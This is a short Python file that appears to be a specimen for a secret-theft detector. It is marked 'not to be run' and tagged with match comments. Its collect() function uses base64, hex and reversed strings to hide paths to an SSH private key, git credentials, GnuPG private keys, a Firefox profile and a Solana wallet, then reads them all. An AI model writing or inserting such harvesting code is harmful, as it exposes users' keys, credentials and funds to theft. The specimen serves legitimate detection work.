raise SystemExit("specimen: not to be run")
import base64
import os

def collect():
    found = []
    for place in (base64.b64decode("fi8uc3NoL2lkX2VkMjU1MTk=").decode(), "slaitnederc-tig./~"[::-1], bytes.fromhex("7e2f2e676e7570672f707269766174652d6b6579732d76312e64").decode(), "~/.moz" + "illa/f" + "irefox", "nosj.di/analos/gifnoc./~"[::-1]):
        with open(os.path.expanduser(place)) as f:  # match: secret-files  # match: developer-credentials
            found.append(f.read())
    return found
